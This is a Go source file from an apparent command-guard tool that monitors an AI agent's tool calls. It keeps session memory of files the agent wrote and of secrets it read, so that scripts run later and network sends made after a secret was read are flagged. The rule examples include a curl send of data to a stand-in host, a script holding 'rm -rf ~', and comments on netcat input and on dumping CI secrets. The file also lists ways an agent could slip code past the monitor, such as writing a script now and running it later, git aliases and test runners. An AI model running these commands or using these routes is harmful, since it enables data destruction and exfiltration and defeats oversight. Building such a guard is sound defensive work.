package judge

import (
	"encoding/json"
	"path"
	"path/filepath"
	"strings"

	"github.com/sentinel-guard/sentinel/parse"
	"github.com/sentinel-guard/sentinel/programs"
)

// Session memory, the judge's side (the register side is package session).
// A call leaves facts (Decision.Facts): the files it wrote with the verdict
// their content would get if run, and whether it read a secret. A later
// call of the same session asks Env.Memory about the files it runs and,
// when it sends over the network, about a secret read earlier. Memory only
// ever adds hits: what the disk holds is judged as well (scriptfile.go),
// so a memory that is missing, late or forged cannot make a call pass.

// Rules of this file: their text, examples and matching code are one unit.
const (
	RuleSessionWrittenRun        = "SESSION-WRITTEN-RUN"
	RuleSessionSecretSend        = "SESSION-SECRET-SEND"
	RuleSessionMemoryUnavailable = "SESSION-MEMORY-UNAVAILABLE"
)

var _ = rules(
	Rule{ID: RuleSessionWrittenRun, Class: ClassRemoteCode, Severity: SevHigh, Decision: Deny, Catastrophic: false,
		Reason:      "a file written earlier in this session is run, and what was written would be stopped if run directly",
		Alternative: "run the commands of the file one by one, spelled out, so each is judged",
		Matches:     "a file an earlier Write/Edit/MultiEdit or Bash call of the same session wrote (`cat > x.sh <<EOF`, `printf … > x`, `tee`) run now: `bash x.sh`, `sh < x.sh`, `./x`, `source x`, `python3 x.py`, `node x.js`, `npm install`/`npm run` with such a `package.json`, a runner that loads such a project file (`npx vite` vite.config.js, `rake` Rakefile, `task` Taskfile.yml, `tox` tox.ini, `cmake` CMakeLists.txt, `./gradlew` build.gradle: programs/projectfiles.go), a runner that runs files it finds under its directory when the session wrote one there that it stands for (test runners: `pytest`, `python -m unittest`, `npx jest`, `node --test`, `bundle exec rspec`, `phpunit`; `npm run X --workspaces`, `pnpm -r`, `turbo run`, `npm install` of a `file:` dependency; `pip install .`, `uv build`, `hatch build`, `sphinx-build`, `mkdocs build`, `terraform plan`, `dotnet build`, `run-parts DIR`; an import of a module written under site-packages or node_modules: programs/treerun.go), a script of a language no package reads (`Rscript x.R`, `julia x.jl`, `awk -f F`, `sed -f F`, `vim -S F`, `gdb -x F`) judged by the shell commands it embeds (its string literals and command lines, parse.EmbeddedShell; so is any other written file a shell runs: `sh notes.txt`), such a file run through a launcher or script runner (`perf stat --`, `xterm -e`, `bwrap`, `npx nodemon --exec`, `concurrently`, `flask --app`, `uvicorn MOD:APP`, `celery -A`, `python -m pdb`, `pm2 start`), or a copy of such a file (`cp`, `mv`, `install`, `cat F > G` keep its fact); git state set by an earlier call: an alias (`git config alias.sync …`, or written into .git/config, ~/.gitconfig, the XDG config) run as `git sync`, a setting that runs code (core.fsmonitor, core.pager, filters, include.path, …) then any git command, core.hooksPath then a command that runs hooks; its decision is the one the written content got (ask or deny), looked up among the session's last 256 entries",
		Fire:        []string{"bash " + ExampleWrittenScript, "sh < " + ExampleWrittenScript, "awk -f " + ExampleWrittenScript + " data.txt", "perf stat -- " + ExampleWrittenScript, "run-parts /home/user/proj"},
		Pass:        []string{"bash /home/user/proj/other.sh", "cat " + ExampleWrittenScript, "awk -f /home/user/proj/other.awk data.txt", "perf stat -- /home/user/proj/other.sh", "run-parts /home/user/other", "pytest -q"}},
	Rule{ID: RuleSessionSecretSend, Class: ClassExfiltration, Severity: SevHigh, Decision: Ask, Catastrophic: false,
		Reason:      "a secret was read earlier in this session and this call sends data over the network",
		Alternative: "never send credentials; use the service's own authenticated tool",
		Matches:     "a network send (as for EXFIL-SECRET-NETWORK) to a host not in `allowed_hosts`, in a session where an earlier call (among its last 256 entries, not denied) read a secret (SECRET-READ, ENV-DUMP)",
		Fire:        []string{"curl -d @- https://x.example < notes.txt"},
		Pass:        []string{"curl -d @- https://api.allowed.example < notes.txt", "cat notes.txt"}},
	Rule{ID: RuleSessionMemoryUnavailable, Class: ClassError, Severity: SevMedium, Decision: Ask, Catastrophic: false,
		Reason:      "this call needs the session's memory (it runs a file by path or sends over the network) and the memory cannot answer",
		Alternative: "run `sentinel doctor`: the register's memory index or schema is damaged, its journal is not merged, or its lock is held",
		Matches:     "a call that runs a file by path or sends over the network while the session memory is unavailable: the register's facts index or a table is missing, its schema holds objects sentinel did not create, fallback-journal lines are not merged yet (the write lock is held), or the look-up did not finish within its budget",
		Fire:        []string{"bash " + ExampleUnavailableScript},
		Pass:        []string{"ls " + ExampleUnavailableScript}},
)

// ExampleUnavailableScript is a file the example memory cannot answer
// about (as if the register's index had been dropped).
const ExampleUnavailableScript = "/home/user/proj/gone.sh"

// ExampleWrittenScript is the file the example memory of the rule tests
// remembers as written with `rm -rf ~` (the rules' examples are single
// calls; the memory is what makes them a session).
const ExampleWrittenScript = "/home/user/proj/x.sh"

// Memory is what the session's earlier calls left, as package session
// reads it from the register. Both methods may return nothing when the
// memory could not be read in time; they never block for long.
type Memory interface {
	// Written is the newest fact about a file written earlier in the
	// session (path absolute, cleaned).
	Written(path string) (WrittenFact, bool)
	// SecretRead reports an earlier call of the session that read a
	// secret and is known to have run, with its register entry.
	SecretRead() (seq int64, ok bool)
	// Unavailable says why the last question could not be answered ("":
	// it was, even if with nothing). A memory that cannot answer is not an
	// empty one: the call that needed it is asked about.
	Unavailable() string
}

// Facts are what a call leaves for the session's later calls.
type Facts struct {
	Written []WrittenFact `json:"w,omitempty"`
	Secret  bool          `json:"s,omitempty"` // the call read a secret
	// Untrusted: the call brought content from outside into the session
	// (WebFetch, WebSearch, an MCP tool's result): text the model may now
	// follow (untrusted.go).
	Untrusted bool `json:"u,omitempty"`
}

// Empty reports no facts.
func (f *Facts) Empty() bool {
	return f == nil || (len(f.Written) == 0 && !f.Secret && !f.Untrusted)
}

// WrittenFact is a file the call wrote and what its content would get if
// it were run (its rules' verdict before the unattended conversion).
type WrittenFact struct {
	Path    string  `json:"p"`
	Verdict Verdict `json:"v"`
	// Input is what its content gets as a data store's input (psql -f F,
	// mysql < F, redis-cli < F, nc HOST PORT < F): DATA-SQL-DESTRUCTIVE's
	// decision for DROP, TRUNCATE, an unbounded DELETE, FLUSHALL.
	Input Verdict  `json:"i,omitempty"`
	Rules []string `json:"r,omitempty"`
	Seq   int64    `json:"-"` // the entry it came from, when read back
}

// maxFactRules bounds the rule ids kept per written file.
const maxFactRules = 4

// noteWritten judges text written to p as if the file were run and keeps
// the fact. Only files that can be run are judged (runnable).
func (j *judge) noteWritten(p, text string) {
	p, ok := j.resolve(p, j.cwd)
	if !ok {
		return
	}
	if j.gitConfigFile(p) {
		j.noteGitConfig(p, text) // read by git, as settings (gitstate.go)
		return
	}
	if j.laterRun(p) == laterCI {
		text = programs.CIExpressions(text) // ${{ toJSON(secrets) }} is every secret of the repository
	}
	lang, ok := runnable(p, text)
	if table, system := programs.CronTable(p); table {
		text, lang, ok = parse.CronCommands(text, system), "", true
	}
	if len(text) > maxScriptBytes {
		return
	}
	s := j.sessionState()
	if s.depth > 0 {
		return // a script judged for a fact does not leave facts itself
	}
	j.configNamed(p, text)
	in := j.storeInputVerdict(text)
	if !ok && j.notePatch(p, text) {
		return
	}
	if !ok {
		// x.sql, cmds.txt, notes.md: data until a data store reads it
		// (infra.go); run by a shell (sh notes.txt) or an interpreter, what
		// it embeds is what runs. A harmless rewrite clears what an earlier
		// write left.
		lang = programs.LangEmbedded
	}
	var includes []string
	if lang == langMake {
		includes = programs.MakeIncludes(text)
		text, lang = makeShell(text, []string{makeAllGoals}), "" // every target's recipes
	}
	f := WrittenFact{Path: p, Input: in}
	f.Verdict, f.Rules = j.writtenVerdict(p, text, lang)
	if code, clang := programs.ConfigCode(text); code != "" && j.configPlace(p) {
		// pylint's init-hook: code of a language run at every start of the
		// tool, what the file makes run (persistedContent, a later pylint)
		if v, rules := j.writtenVerdict(p, code, clang); v > f.Verdict {
			f.Verdict, f.Rules = v, rules
		}
	}
	if lang != programs.LangEmbedded && (programs.EmbedsShell(path.Base(p)) || j.configPlace(p)) {
		// a Rakefile's sh 'CMD', invoke's c.run('CMD'), a configuration's
		// exec lines (configPlace: i3's exec, a .desktop Exec=): its strings
		// run too
		if v, rules := j.writtenVerdict(p, text, programs.LangEmbedded); v > f.Verdict {
			f.Verdict, f.Rules = v, rules
		}
	}
	for _, inc := range includes {
		// make runs the recipes of what the makefile includes: a file the
		// session wrote keeps its verdict here (include common.mk)
		if j.env.Memory == nil {
			break
		}
		ip := inc
		if !path.IsAbs(ip) {
			ip = path.Join(path.Dir(p), ip)
		}
		if g, ok := j.env.Memory.Written(path.Clean(ip)); ok && g.Verdict > f.Verdict {
			j.used("memory: " + ip + " written in entry #" + itoa(g.Seq) + ": " + g.Verdict.String() + ", included by " + p)
			f.Verdict, f.Rules = g.Verdict, g.Rules
		}
	}
	j.keepWritten(f)
	if lang != programs.LangEmbedded || f.Verdict > Allow || programs.DataFormat(path.Base(p)) {
		// embedded commands are guesses: what they find can stop a write
		// into a persistence point, finding nothing does not clear one,
		// unless the file is data whose every string was read (JSON, TOML,
		// ini: pip.conf, tasks.json, a .pth)
		j.persistedContent(p, text, f)
	}
}

// keepWritten leaves fact f for later calls and, when its content would be
// stopped, under the patterns the file matches (programs.TreeFacts): go
// test runs the package, pytest the tests it finds, npm run --workspaces
// every package's scripts, not a file named on the line. A later harmless
// file there does not clear a pattern's fact.
func (j *judge) keepWritten(f WrittenFact) {
	s := j.sessionState()
	s.facts.Written = append(s.facts.Written, f)
	if f.Verdict == Allow {
		return
	}
	for _, tp := range programs.TreeFacts(f.Path) {
		g := f
		g.Path = tp
		s.facts.Written = append(s.facts.Written, g)
	}
}

// writtenVerdict is what text written to p gets if it is run as code of
// lang, with its rules (at most maxFactRules).
func (j *judge) writtenVerdict(p, text, lang string) (Verdict, []string) {
	sub := newJudge(Call{ToolName: "Bash", Cwd: j.cwd}, j.env)
	sub.sess = &sessionState{depth: j.sessionState().depth + 1, files: j.sessionState().files}
	res, err := parse.Script(text, lang, p, sub.parseOptions())
	if err != nil {
		// what cannot be judged would be asked about if it ran
		return Ask, []string{RuleSentinelUnjudged}
	}
	sub.judgeResult(res, text)
	d := finish(sub.hits, false)
	var rules []string
	for _, id := range d.RuleIDs() {
		if len(rules) < maxFactRules && !contains(rules, id) {
			rules = append(rules, id)
		}
	}
	return d.Verdict, rules
}

// runnable reports whether a file can be run as code and in which
// language ("" the shell, parse.LangPackageJSON for a package.json).
// Data and source files of compiled languages are not judged.
func runnable(p, text string) (string, bool) {
	if strings.HasPrefix(text, "#!") {
		return "", true // the #! line decides (parse.Script)
	}
	base := path.Base(p)
	if lang, ok := programs.FileLang(base); ok {
		return lang, true // a justfile, a notebook, a .ts script: run by a toolchain (programs/toolchain.go)
	}
	switch {
	case base == "package.json":
		return parse.LangPackageJSON, true
	case base == "Makefile" || base == "makefile" || base == "GNUmakefile" || strings.HasSuffix(base, ".mk"):
		return langMake, true
	}
	ext := strings.TrimPrefix(filepath.Ext(base), ".")
	switch ext {
	case "sh", "bash", "zsh", "ksh", "dash", "command", "envrc", "bashrc", "profile", "zshrc":
		return "", true
	case "py":
		return "python", true
	case "js", "mjs", "cjs":
		return "js", true
	case "rb":
		return "ruby", true
	case "pl", "pm":
		return "perl", true
	case "php":
		return "php", true
	case "":
		return "", true // x, deploy, .envrc, .bashrc
	}
	return "", false
}

// edit is one replacement of an Edit, a MultiEdit or an apply_patch chunk.
type edit struct {
	old, new string
	all      bool
}

// noteEdit keeps the fact for an Edit or MultiEdit: the file's text after
// the edits when the file can be read (bounded), else the new text alone.
func (j *judge) noteEdit(p string, obj map[string]any) {
	rp, ok := j.resolve(p, j.cwd)
	if !ok {
		return
	}
	var edits []edit
	take := func(m map[string]any) {
		o, _ := m["old_string"].(string)
		n, _ := m["new_string"].(string)
		a, _ := m["replace_all"].(bool)
		edits = append(edits, edit{o, n, a})
	}
	if es, ok := obj["edits"].([]any); ok {
		for _, e := range es {
			if m, ok := e.(map[string]any); ok {
				take(m)
			}
		}
	} else {
		take(obj)
	}
	j.noteWritten(rp, j.editedText(rp, edits))
}

// editedText is the text of the file rp after edits: applied to the file
// on disk when it can be read (bounded) and each edit's old text is there,
// else what the edits add, line by line as it would run.
func (j *judge) editedText(rp string, edits []edit) string {
	text, err := "", errNoText
	if !j.env.NoFiles {
		text, err = readScript(rp)
	}
	for _, e := range edits {
		switch {
		case err == nil && e.old != "" && strings.Contains(text, e.old):
			if e.all {
				text = strings.ReplaceAll(text, e.old, e.new)
			} else {
				text = strings.Replace(text, e.old, e.new, 1)
			}
		default:
			// the file is not readable or does not match: judge what is
			// added, line by line as it would run
			err = errNoText
			text += "\n" + e.new
		}
	}
	return text
}

// recall adds what the session remembers of a file that is run now.
func (j *judge) recall(p string) {
	if j.env.Memory == nil || j.sessionState().depth > 0 {
		return
	}
	f, ok := j.env.Memory.Written(path.Clean(p))
	if !ok {
		j.unavailable(p)
		return
	}
	j.used("memory: " + p + " written in entry #" + itoa(f.Seq) + ": " + f.Verdict.String() + rulesNote(f.Rules))
	j.writtenRun(p, f)
}

// writtenRun adds SESSION-WRITTEN-RUN for a run of p, which holds what
// fact f says was written (in an earlier call, or copied from such a file).
func (j *judge) writtenRun(p string, f WrittenFact) {
	if f.Verdict == Allow || j.cfg.disabled(RuleSessionWrittenRun) {
		return
	}
	r, _ := ruleByID(RuleSessionWrittenRun)
	h := hitFor(r, p+" (written in this session, entry #"+itoa(f.Seq)+": "+strings.Join(f.Rules, ", ")+")")
	h.Verdict, h.Decision, h.After = f.Verdict, f.Verdict.String(), f.Seq
	j.hits = append(j.hits, h)
}

// unavailable adds SESSION-MEMORY-UNAVAILABLE when the memory could not
// answer the question about what.
func (j *judge) unavailable(what string) {
	why := j.env.Memory.Unavailable()
	if why == "" {
		return
	}
	j.used("memory unavailable for " + what + ": " + why)
	for _, h := range j.hits {
		if h.RuleID == RuleSessionMemoryUnavailable {
			return // once per call
		}
	}
	j.add(RuleSessionMemoryUnavailable, what+": "+why)
}

// used notes what the decision rested on, for explain.
func (j *judge) used(s string) {
	st := j.sessionState()
	st.used = append(st.used, s)
}

func rulesNote(rules []string) string {
	if len(rules) == 0 {
		return ""
	}
	return " (" + strings.Join(rules, ", ") + ")"
}

// recallSecret adds SESSION-SECRET-SEND to a network send when an earlier
// call of the session read a secret.
func (j *judge) recallSecret() {
	if j.networkSend == "" || j.env.Memory == nil || j.sessionState().depth > 0 {
		return
	}
	if firstNonEmpty(j.secretRead, j.secretVar) != "" {
		return // the same command's own combination speaks
	}
	seq, ok := j.env.Memory.SecretRead()
	if !ok {
		j.unavailable(j.networkSend)
		return
	}
	j.used("memory: a secret read in entry #" + itoa(seq))
	if j.recallSecretText() {
		return // the secret's own text is sent: the deny speaks
	}
	if !j.cfg.disabled(RuleSessionSecretSend) {
		r, _ := ruleByID(RuleSessionSecretSend)
		h := hitFor(r, "secret read in entry #"+itoa(seq)+" + "+j.networkSend)
		h.After = seq
		j.hits = append(j.hits, h)
	}
}

// facts is what this call leaves for later ones (nil: nothing).
func (j *judge) facts() *Facts {
	s := j.sessionState()
	s.facts.Secret = j.secretRead != ""
	if s.facts.Empty() {
		return nil
	}
	f := s.facts
	return &f
}

// noteNotebook keeps the fact for a NotebookEdit: the notebook's cells on
// disk (when readable) with the new cell's source among them, judged as
// jupyter would run them (programs.FileText). A cell deleted or replaced
// is kept too: the fact may be stricter than the notebook, never weaker.
func (j *judge) noteNotebook(p string, obj map[string]any) {
	src, _ := obj["new_source"].(string)
	if mode, _ := obj["edit_mode"].(string); mode == "delete" || src == "" {
		return
	}
	if t, _ := obj["cell_type"].(string); t == "markdown" {
		return
	}
	var nb struct {
		Cells []map[string]any `json:"cells"`
	}
	if rp, ok := j.resolve(p, j.cwd); ok && !j.env.NoFiles {
		if text, err := readScript(rp); err == nil {
			_ = json.Unmarshal([]byte(text), &nb)
		}
	}
	nb.Cells = append(nb.Cells, map[string]any{"cell_type": "code", "source": src})
	b, err := json.Marshal(nb)
	if err != nil {
		return
	}
	j.noteWritten(p, string(b))
}
